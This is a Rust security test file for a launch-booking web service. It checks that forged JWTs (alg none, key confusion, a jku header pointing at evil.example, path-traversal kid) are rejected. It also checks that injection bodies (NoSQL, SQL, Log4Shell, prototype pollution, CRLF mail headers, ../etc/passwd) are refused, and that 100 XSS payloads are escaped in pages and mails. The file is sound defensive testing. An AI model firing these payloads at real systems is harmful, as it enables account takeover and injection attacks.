//! What attackers send: forged tokens, bodies that are no bodies, other people's prices, and texts that would be programs.

use crate::{
    operations,
    world::{Flight, GOOD_CARD, World, card, line, passenger, schedule_changed},
};
use api::core::token::Bearer;
use contract::{BookingId, LaunchId, Money, account::Role};
use domain::{booking::Basis, launch::AbortReason, seat::Seat};
use jiff::Timestamp;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use scheduler::{
    Person,
    letter::{self, Letter, Token},
};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use uuid::Uuid;

/// A header or payload of a token: base64 for addresses, without padding.
fn part(value: &Value) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let bytes = value.to_string().into_bytes();
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().enumerate().fold(0_u32, |bits, (at, byte)| bits | u32::from(*byte) << (16 - 8 * at));
        for at in 0..=chunk.len() {
            text.push(char::from(LETTERS[(bits >> (18 - 6 * at) & 63) as usize]));
        }
    }
    text
}

/// Tokens that must be worth nothing, each with a name. `good` is one of a customer.
fn forged(world: &World, good: &str, refresh: &str) -> Vec<(&'static str, String)> {
    let pkcs8 = std::fs::read(world.keys().join("signing.pkcs8")).unwrap();
    let ours = EncodingKey::from_ed_der(&pkcs8);
    let public = aws_lc_rs::signature::Ed25519KeyPair::from_pkcs8(&pkcs8).unwrap();
    let public = aws_lc_rs::signature::KeyPair::public_key(&public).as_ref().to_vec();
    let theirs = aws_lc_rs::signature::Ed25519KeyPair::generate_pkcs8(&aws_lc_rs::rand::SystemRandom::new()).unwrap();
    let theirs = EncodingKey::from_ed_der(theirs.as_ref());
    let claims: Value = jsonwebtoken::dangerous::insecure_decode(good).unwrap().claims;
    let kid = jsonwebtoken::decode_header(good).unwrap().kid;
    let header = |algorithm| Header { kid: kid.clone(), ..Header::new(algorithm) };
    let signed = |header: &Header, claims: &Value, key: &EncodingKey| jsonwebtoken::encode(header, claims, key).unwrap();
    let with = |name: &str, value: Value| {
        let mut claims = claims.clone();
        claims[name] = value;
        signed(&header(Algorithm::EdDSA), &claims, &ours)
    };
    let now = Timestamp::now().as_second();
    let mut parts: Vec<&str> = good.split('.').collect();
    let mut raised = claims.clone();
    raised["role"] = json!("operator");
    let raised = part(&raised);
    let none = format!("{}.{}.", part(&json!({ "alg": "none", "typ": "JWT", "kid": kid })), parts[1]);
    let none_signed = format!("{}.{}.{}", part(&json!({ "alg": "None", "typ": "JWT", "kid": kid })), parts[1], parts[2]);
    let jku = Header { jku: Some("https://evil.example/keys.json".to_owned()), ..header(Algorithm::EdDSA) };
    let mut list = vec![
        ("alg none", none),
        ("alg None with a signature", none_signed),
        ("HS256 with the public key", signed(&header(Algorithm::HS256), &claims, &EncodingKey::from_secret(&public))),
        ("unknown kid", signed(&Header { kid: Some("other".to_owned()), ..Header::new(Algorithm::EdDSA) }, &claims, &ours)),
        ("no kid", signed(&Header::new(Algorithm::EdDSA), &claims, &ours)),
        ("a path as kid", signed(&Header { kid: Some("../../dev/null".to_owned()), ..Header::new(Algorithm::EdDSA) }, &claims, &ours)),
        ("another's key under our kid", signed(&header(Algorithm::EdDSA), &claims, &theirs)),
        ("jku header", signed(&jku, &claims, &theirs)),
        ("expired", with("exp", json!(now - 1))),
        ("not yet", with("nbf", json!(now + 3_600))),
        ("another issuer", with("iss", json!("evil"))),
        ("no audience", with("aud", json!([]))),
        ("a session that never was", with("sid", json!(Uuid::new_v4()))),
        ("refresh as access", refresh.to_owned()),
        ("empty", String::new()),
        ("long", "x".repeat(5_000)),
    ];
    parts[1] = &raised;
    list.push(("edited payload", parts.join(".")));
    list
}

#[tokio::test(flavor = "multi_thread")]
async fn forged_tokens_are_worth_nothing_anywhere() {
    let world = World::start().await;
    let (account, _) = world.account(Role::Customer, None, "").await;
    let issued = world.app.sessions.start(account, Role::Customer, Timestamp::now()).await.unwrap();
    let bearer = Bearer { account, role: Role::Customer, supplier: None, session: issued.session, enrolling: false };
    let good = world.app.tokens.sign(bearer, Timestamp::now()).unwrap();
    // The control: it is worth something before it is changed.
    world.visitor().with_token(&world.base, &good).get("/api/customer/bookings").await.ok();
    let tokens = forged(&world, &good, &issued.refresh);
    let guarded: Vec<_> = operations::all().into_values().filter(|operation| operation.who != "*").collect();
    assert!(guarded.len() > 40);
    for (name, token) in &tokens {
        let client = world.visitor().with_token(&world.base, token);
        for operation in &guarded {
            let reply = client.send(operation.ask(&client, &operation.somewhere(), &operation.some_body())).await;
            assert_eq!(reply.status, 401, "{name}: {} {}: {reply:?}", operation.method, operation.path);
        }
    }
    // A token of another service's audience, as it was issued.
    for operation in
        guarded.iter().filter(|operation| operation.path.starts_with("/api/employee/") || operation.path.starts_with("/api/supplier/"))
    {
        let client = world.visitor().with_token(&world.base, &good);
        assert_eq!(client.send(operation.ask(&client, &operation.somewhere(), &json!({}))).await.status, 401, "{}", operation.path);
    }
    // Trying them leaves an entry.
    let operator = world.with_role(Role::Operator, None).await;
    operator.until("/api/core/security-events?kind=denied", |page| page["total"].as_u64() > Some(0)).await;
    world.end().await;
}

/// Bodies that no operation takes, whatever honest ones look like.
fn bad(honest: &Value) -> Vec<Vec<u8>> {
    let mut bodies: Vec<Vec<u8>> = [
        "",
        "0",
        "\"x\"",
        "{",
        "{\"\":1}",
        "\u{feff}{}",
        "{\"a\":1e999}",
        "{\"a\":\"\\ud800\"}",
        "{\"__proto__\":{\"role\":\"operator\"}}",
    ]
    .map(|body| body.as_bytes().to_vec())
    .to_vec();
    bodies.push(vec![0xff, 0xfe, 0x00]);
    bodies.push(format!("{}1{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes());
    bodies.push(format!("{}{}", "{\"a\":".repeat(5_000), "}".repeat(5_000)).into_bytes());
    bodies.push(vec![b' '; 70_000]);
    let mut with = |name: &str, value: Value| {
        let mut body = honest.clone();
        body[name] = value;
        bodies.push(body.to_string().into_bytes());
    };
    with("$where", json!("1"));
    with("__proto__", json!({ "role": "operator" }));
    for (text, _) in honest.as_object().unwrap().iter().filter(|(_, value)| value.is_string()) {
        with(text, json!({ "$gt": "" }));
        with(text, json!({ "$where": "sleep(9)" }));
    }
    bodies
}

/// Bodies that may be none, for an operation whose honest body would have these fields.
fn wild(honest: &Value) -> Vec<Vec<u8>> {
    let fields: Vec<&String> = honest.as_object().unwrap().keys().collect();
    let mut bodies: Vec<Vec<u8>> = ["null", "[]"].map(|body| body.as_bytes().to_vec()).to_vec();
    let values = [
        json!(-1),
        json!(0),
        json!(-0.5),
        json!(1e300),
        json!(u64::MAX),
        json!(i64::MIN),
        json!(null),
        json!(true),
        json!(""),
        json!("\0"),
        json!("\r\nBcc: x@y.z"),
        json!("x".repeat(40_000)),
        json!({ "$gt": "" }),
        json!([[[]]]),
        json!(["\u{202e}", -1, {}]),
        json!("' OR 1=1 --"),
        json!("${jndi:ldap://x}"),
        json!("99999999999999999999999999"),
        json!("-5"),
        json!("9999-99-99T99:99"),
        json!("{{7*7}}"),
    ];
    for field in &fields {
        for value in &values {
            let mut body = honest.clone();
            body[field.as_str()] = value.clone();
            bodies.push(body.to_string().into_bytes());
        }
        bodies.push(format!("{{\"{field}\":{}}}", "9".repeat(400)).into_bytes());
    }
    bodies
}

/// Words that would tell what is inside.
const INSIDE: &[&str] = &[
    "sqlx",
    "postgres",
    "mongodb",
    "bson",
    "select ",
    "insert into",
    ".rs:",
    "panicked",
    "/src/",
    "rustc",
    "stack backtrace",
    "serde_json",
    "tokio",
    "axum",
    "hyper",
    "nats://",
    "0.1.0",
];

#[tokio::test(flavor = "multi_thread")]
async fn wild_bodies_and_queries_are_refused_and_tell_nothing() {
    let world = World::start().await;
    let (_, slug) = world.launch(Flight::default()).await;
    let mut tried = 0;
    for operation in operations::all().into_values() {
        let client = operation.one_who_may(&world).await;
        let path = if operation.path.contains("{launch}") {
            operation.path.replace("{launch}", slug.as_str()).replace("{booking}", &Uuid::new_v4().to_string())
        } else {
            operation.somewhere()
        };
        let mut replies = Vec::new();
        if operation.body.is_some() {
            let send = async |body: Vec<u8>| {
                let request = client.request(operation.method.clone(), &path).header("content-type", "application/json");
                client.send(request.header("idempotency-key", Uuid::new_v4().to_string()).body(body)).await
            };
            let honest = operation.some_body();
            for body in bad(&honest) {
                let began: String = String::from_utf8_lossy(&body).chars().take(100).collect();
                let reply = send(body).await;
                // For the body itself, not for want of a right or of what it is about.
                let refused = matches!(reply.status.as_u16(), 400 | 413);
                assert!(refused, "{} {} for {began}: {reply:?}", operation.method, operation.path);
                replies.push(reply);
            }
            for body in wild(&honest) {
                replies.push(send(body).await);
            }
        }
        for name in operation.query.iter().filter(|_| !operation.path.ends_with("/live")) {
            for value in [
                "-1",
                "0",
                "99999999999999999999",
                "%00",
                "%0d%0aX:y",
                "{\"$gt\":1}",
                "'--",
                "%ff",
                "1e9",
                "(",
                ".*",
                "\u{202e}",
                "&a&&=",
                "2026-13-45T99:99:99Z",
            ] {
                replies.push(client.get(&format!("{path}?{name}={value}")).await);
            }
            replies.push(client.get(&format!("{path}?{name}[$gt]=1")).await);
        }
        for segment in ["%00", "..%2f..%2fetc%2fpasswd", "%ff", "'--", "{}", "-1", "%0d%0aX:%20y"] {
            let path =
                operation.path.split('/').map(|part| if part.starts_with('{') { segment } else { part }).collect::<Vec<_>>().join("/");
            if path != operation.path && !operation.path.ends_with("/live") {
                replies.push(client.send(operation.ask(&client, &path, &operation.some_body())).await);
            }
        }
        for reply in replies {
            tried += 1;
            let status = reply.status.as_u16();
            assert!(status < 500, "{} {}: {reply:?}", operation.method, operation.path);
            let told = reply.body.to_string().to_lowercase();
            if status >= 400 {
                let inside = INSIDE.iter().find(|word| told.contains(**word));
                assert_eq!(inside, None, "{} {}: {reply:?}", operation.method, operation.path);
                assert!(reply.body["code"].is_string(), "{} {}: {reply:?}", operation.method, operation.path);
            }
        }
    }
    assert!(tried > 1_000, "{tried}");
    world.end().await;
}

#[test]
fn every_body_refuses_fields_it_does_not_know() {
    let mut seen = 0;
    for (name, operation) in operations::all() {
        let Some(schema) = &operation.body else { continue };
        if schema["oneOf"].is_array() {
            continue; // of which the documents cannot say it; tried below
        }
        assert_eq!(schema["additionalProperties"], json!(false), "{name}: {schema}");
        seen += 1;
    }
    assert!(seen > 15, "{seen}");
}

/// Where routes are made by hand, outside the documents: what tells whether a process lives, figures on a listener of their own, the
/// documents themselves with all that they describe below one path, the answer for what is not there, what is passed on to the core
/// service, and pages.
#[test]
fn no_route_is_outside_the_documents() {
    let mut found = BTreeMap::new();
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut folders = vec![root.clone()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap_or_default();
            let ways = [".route(", ".route_service(", ".nest(", ".nest_service(", ".fallback_service("];
            let routes: usize = ways.iter().map(|way| text.matches(way).count()).sum();
            if path.extension().is_some_and(|kind| kind == "rs") && routes > 0 {
                found.insert(path.strip_prefix(&root).unwrap().display().to_string(), routes);
            }
        }
    }
    let known = [("services.rs", 3), ("web/forward.rs", 2), ("web/health.rs", 2), ("web/metrics.rs", 1), ("web/pages.rs", 2)];
    let known: BTreeMap<String, usize> = known.map(|(file, routes)| (file.to_owned(), routes)).into();
    assert_eq!(found, known, "a route that no document has: use `routes!`, or say here why not");
}

#[tokio::test(flavor = "multi_thread")]
async fn steps_out_of_order_and_prices_of_ones_own_are_refused() {
    let world = World::start().await;
    let (launch, slug) = world.launch(Flight::default()).await;
    let (ada, eve) = (world.customer().await, world.customer().await);
    let holds = format!("/api/customer/launches/{slug}/holds");
    // Paying, naming and cancelling before there is anything to pay.
    let nothing = format!("/api/customer/launches/{slug}/bookings/{}", Uuid::new_v4());
    ada.ask(&format!("{nothing}/payments"), &card(GOOD_CARD)).await.refused(404, "not_found");
    ada.put(&format!("{nothing}/passengers"), &json!({ "passengers": [passenger("1A")] })).await.refused(404, "not_found");
    let held = ada.ask(&holds, &json!({ "seats": ["1A"] })).await.ok();
    let mine = format!("/api/customer/launches/{slug}/bookings/{}", held["booking"].as_str().unwrap());
    ada.ask(&format!("{mine}/payments"), &card(GOOD_CARD)).await.refused(409, "passengers_missing");
    // A price, a customer or a state of one's own is no part of any form.
    for more in ["price", "total", "amount", "customer", "stage", "vip", "booking", "discount"] {
        let mut form = json!({ "seats": ["2A"] });
        form[more] = json!(1);
        ada.ask(&holds, &form).await.refused(400, "bad_request");
        let mut form = card(GOOD_CARD);
        form[more] = json!(1);
        ada.ask(&format!("{mine}/payments"), &form).await.refused(400, "bad_request");
    }
    // Another's booking is none, at every step.
    eve.ask(&format!("{mine}/payments"), &card(GOOD_CARD)).await.refused(404, "not_found");
    eve.put(&format!("{mine}/passengers"), &json!({ "passengers": [passenger("1A")] })).await.refused(404, "not_found");
    // The price is the launch's, whatever was sent.
    ada.put(&format!("{mine}/passengers"), &json!({ "passengers": [passenger("1A")] })).await;
    ada.ask(&format!("{mine}/payments"), &card(GOOD_CARD)).await.ok();
    ada.ask(&format!("{mine}/payments"), &card(GOOD_CARD)).await;
    let booking = ada
        .until(&format!("/api/customer/bookings/{}", held["booking"].as_str().unwrap()), |trip| trip.to_string().contains("confirmed"))
        .await;
    let paid = booking.to_string();
    assert!(paid.contains(&Flight::default().dollars.to_string()), "{paid}");
    let outcome = format!("/api/supplier/launches/{slug}/outcome");
    world.supplier().await.ask(&outcome, &json!({ "outcome": "launched", "price": 1 })).await.refused(400, "bad_request");
    // A refund other than the one quoted is not given.
    ada.ask(&format!("{mine}/cancellation"), &json!({ "refund": { "minor": 999_999_999, "currency": "USD" } }))
        .await
        .refused(409, "quote_changed");
    assert_eq!(world.state(launch).await.manifest().unwrap().taken.len(), 1);
    world.end().await;
}

/// Texts that would be programs where they are not shown as texts: 100 of them, all different.
fn programs() -> Vec<String> {
    let bodies = ["alert(1)", "fetch('//x')", "import('//x')", "x=1", "eval(name)", "top.x", "open()", "print()", "a`1`", "this.x"];
    let shapes: [fn(&str) -> String; 10] = [
        |code| format!("<script>{code}</script>"),
        |code| format!("\"><script>{code}</script>"),
        |code| format!("<img src=x onerror={code}>"),
        |code| format!("<svg/onload={code}>"),
        |code| format!("'><svg><script>{code}</script>"),
        |code| format!("</title><script>{code}</script>"),
        |code| format!("<a href=javascript:{code}>x</a>"),
        |code| format!("<iframe srcdoc='<script>{code}</script>'>"),
        |code| format!("--></script><script>{code}</script>"),
        |code| format!("<details open ontoggle={code}>"),
    ];
    shapes.iter().flat_map(|shape| bodies.map(shape)).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn texts_stay_texts_in_pages() {
    let folder = crate::pages::built();
    let world = World::with_pages(Some(folder.clone())).await;
    let programs = programs();
    assert_eq!(programs.iter().collect::<std::collections::BTreeSet<_>>().len(), 100);
    let visitor = world.visitor();
    for program in &programs {
        let text = line(program);
        let (_, slug) = schedule_changed(&world.app.executor, Flight::default(), |plan| {
            for name in [&mut plan.supplier_name, &mut plan.rocket_name, &mut plan.spaceport_name] {
                *name = text.clone();
            }
            plan.mission = Some(text.clone());
        })
        .await;
        visitor.until(&format!("/api/customer/launches/{slug}"), |_| true).await;
        let page = visitor.get(&format!("/launches/{slug}")).await;
        let html = page.body.as_str().unwrap();
        let tag = &program[program.find('<').unwrap()..];
        assert!(html.contains("&lt;") || html.contains("&#60;"), "the text is there, escaped: {program}");
        assert!(!html.contains(tag), "{program}");
    }
    let board = visitor.get("/").await;
    let html = board.body.as_str().unwrap();
    assert!(programs.iter().all(|program| !html.contains(&program[program.find('<').unwrap()..])));
    world.end().await;
    std::fs::remove_dir_all(folder).unwrap();
}

/// Every letter there is, with this text wherever it takes one.
fn letters(text: &str) -> Vec<Letter> {
    let text = || text.to_owned();
    let (booking, at, money) = (BookingId(Uuid::nil()), Timestamp::UNIX_EPOCH, Money::dollars(1));
    let seat: Seat = "1A".parse().unwrap();
    let (seats, basis, percent) = (vec![seat], Basis::TimeLeft { days: 90 }, 90);
    let token = Token::new("5ec2e7".to_owned());
    let flight = letter::Flight {
        launch: LaunchId(Uuid::nil()),
        slug: "atlas-v".to_owned(),
        supplier: text(),
        rocket: text(),
        spaceport: text(),
        destination: text(),
        zone: "America/New_York".to_owned(),
        departs_at: at,
    };
    let letters = vec![
        Letter::BookingConfirmed { flight: flight.clone(), booking, seats: seats.clone(), total: money },
        Letter::BookingCancelled { flight: flight.clone(), booking, seats: seats.clone(), refund: money, percent, basis: basis.clone() },
        Letter::PassengerCancelled { flight: flight.clone(), booking, seat, refund: money, percent, basis },
        Letter::LaunchAborted { flight: flight.clone(), booking, reason: Some(AbortReason::Weather), refund: money },
        Letter::HoldExpired { flight: flight.clone(), booking, seats },
        Letter::RefundPaid { flight: flight.clone(), booking, amount: money },
        Letter::LaunchDelayed { flight: flight.clone(), bookings: vec![booking], was: at, reason: text(), free_until: at },
        Letter::SupplierBooked { flight: flight.clone(), seats: 1, total: money, sold: 1, capacity: 20 },
        Letter::ViabilityWarned { flight, sold: 1, needed: 2, aborts_at: at },
        Letter::ConfirmAccount { token: token.clone(), until: at },
        Letter::AlreadyRegistered {},
        Letter::ResetPassword { token: token.clone(), until: at },
        Letter::PasswordChanged { at },
        Letter::StaffInvitation { token, role: text(), until: at },
    ];
    // A letter that is new has no place here, and so none above.
    let place = |letter: &Letter| match letter {
        Letter::BookingConfirmed { .. } => 0,
        Letter::BookingCancelled { .. } => 1,
        Letter::PassengerCancelled { .. } => 2,
        Letter::LaunchAborted { .. } => 3,
        Letter::HoldExpired { .. } => 4,
        Letter::RefundPaid { .. } => 5,
        Letter::LaunchDelayed { .. } => 6,
        Letter::SupplierBooked { .. } => 7,
        Letter::ViabilityWarned { .. } => 8,
        Letter::ConfirmAccount { .. } => 9,
        Letter::AlreadyRegistered {} => 10,
        Letter::ResetPassword { .. } => 11,
        Letter::PasswordChanged { .. } => 12,
        Letter::StaffInvitation { .. } => 13,
    };
    assert!(letters.iter().map(place).eq(0..14));
    letters
}

#[test]
fn texts_stay_texts_in_mails() {
    for program in programs() {
        let text = format!("{program}\r\nBcc: all@example.org");
        let tag = &program[program.find('<').unwrap()..];
        for letter in letters(&text) {
            let mail = letter.render(&Person { name: text.clone(), email: "ada@example.org".to_owned() }, "https://astro.example");
            let what = letter.template();
            assert!(mail.html.contains("&lt;") && !mail.html.contains(tag), "{what}, {program}: {}", mail.html);
            assert!(!mail.subject.contains(['\r', '\n']), "{what}, {program}: {}", mail.subject);
            assert!(!mail.text.contains("\nBcc:") && !mail.text.contains('\r'), "{what}, {program}: {}", mail.text);
        }
    }
}
